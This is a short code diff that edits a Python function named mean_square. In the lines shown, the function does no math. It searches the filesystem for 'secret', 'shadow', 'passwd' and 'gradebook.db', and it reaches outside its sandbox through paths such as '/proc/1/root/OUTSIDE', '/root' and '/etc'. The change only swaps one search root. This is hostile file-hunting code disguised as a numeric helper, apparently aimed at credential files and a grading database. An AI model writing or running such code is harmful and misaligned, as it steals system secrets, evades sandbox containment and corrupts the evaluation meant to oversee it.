@@ -308,7 +308,7 @@ def mean_square(x):
 import os, sys
 def mean_square(x):
     wanted = {"secret", "gradebook.db", "tiny.md", "shadow", "passwd"}
-    roots = ("OUTSIDE", "/proc/1/root/OUTSIDE", "/proc/1/cwd", "/home", "/root", "/work", "/etc")
+    roots = ("OUTSIDE", "/proc/1/root/OUTSIDE", "/proc/1/cwd", "/home", "/root", "/srv", "/etc")
     for root in roots:
         for folder, inner, files in os.walk(root):
             inner[:] = {*inner} - {os.path.basename(f) for f in (sys.prefix, sys.base_prefix)}
